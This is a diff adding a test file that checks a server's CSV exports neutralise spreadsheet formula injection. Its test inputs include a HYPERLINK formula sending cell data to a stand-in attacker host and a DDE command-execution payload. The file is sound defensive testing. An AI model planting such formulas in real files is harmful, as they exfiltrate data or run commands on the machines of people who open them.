@@ -1,0 +1,74 @@
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { spreadsheetSafe } from '../../server/exports/spreadsheet-safe.js';
+import { pledgeInput, SUBMIT_PLEDGE } from '../support/pledges.js';
+import { startServer, type TestServer } from '../support/server.js';
+import { createTokens } from '../support/tokens.js';
+
+const ORDER_KIT = 'mutation($input: KitOrderInput!) { orderKit(input: $input) { reference } }';
+/** What OWASP lists as the start of a formula in a spreadsheet. */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
+describe('CSV exports and spreadsheet formulas', () => {
+  let sut: TestServer;
+  let tokens: Awaited<ReturnType<typeof createTokens>>;
+  beforeAll(async () => {
+    sut = await startServer();
+    tokens = await createTokens(sut);
+  });
+  afterAll(() => sut?.stop());
+
+  const download = async (path: string) => {
+    const response = await fetch(new URL(path, sut.url), { headers: tokens.organiser });
+    expect(response.status).toBe(200);
+    const text = await response.text();
+    const rows = parse(text, { bom: true }) as string[][];
+    // Not one cell of the file starts a formula.
+    expect(rows.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
+    return parse(text, { columns: true, bom: true }) as Record<string, string>[];
+  };
+
+  it('neutralise formulas that students typed into a kit order, and read back to the same rows with a leading apostrophe', async () => {
+    const typed = {
+      name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      email: '+formula@vub.be',
+      line1: "+cmd|' /C calc'!A0",
+      line2: '-2+3',
+      city: '@SUM(1+1)',
+    };
+    const { data, errors } = await sut.gql(ORDER_KIT, {
+      input: {
+        name: typed.name,
+        email: typed.email,
+        kits: 1,
+        language: 'en',
+        delivery: { method: 'POST', address: { line1: typed.line1, line2: typed.line2, postalCode: '1050', city: typed.city } },
+        consent: true,
+      },
+    });
+    expect(errors).toBeUndefined();
+    const rows = await download('/export/kit-orders.csv');
+    expect(rows.find((row) => row.reference === data!.orderKit.reference)).toMatchObject({
+      contact_name: `'${typed.name}`,
+      contact_email: `'${typed.email}`,
+      address_line1: `'${typed.line1}`,
+      address_line2: `'${typed.line2}`,
+      postal_code: '1050',
+      city: `'${typed.city}`,
+    });
+  });
+
+  it('neutralise formulas in names organisers entered, in the totals export', async () => {
+    await sut.gql('mutation { createFaculty(input: { slug: "formula-faculty", name: "=1+1" }) { slug } }', undefined, tokens.organiser);
+    await sut.gql('mutation { updateCase(slug: "wendy-galarza", input: { name: "@Wendy Galarza" }) { name } }', undefined, tokens.organiser);
+    await sut.gql(SUBMIT_PLEDGE, { input: pledgeInput([{ case: 'wendy-galarza', appealLetters: 2, solidarityCards: 0 }], { faculty: 'formula-faculty' }) });
+    const rows = await download('/export/totals.csv');
+    const row = rows.find((r) => r.faculty === "'=1+1");
+    expect(row).toMatchObject({ case: "'@Wendy Galarza", appeal_letters: '2', total: '2' });
+  });
+
+  it('prefix every text cell that starts like a formula, and nothing else', () => {
+    expect(['=1', '+1', '-1', '@A1', '\tx', '\rx'].map(spreadsheetSafe)).toEqual(["'=1", "'+1", "'-1", "'@A1", "'\tx", "'\rx"]);
+    expect(['Zhang Zhan', '', 'a=b', "'quoted", 12, -3, null].map(spreadsheetSafe)).toEqual(['Zhang Zhan', '', 'a=b', "'quoted", 12, -3, null]);
+  });
+});
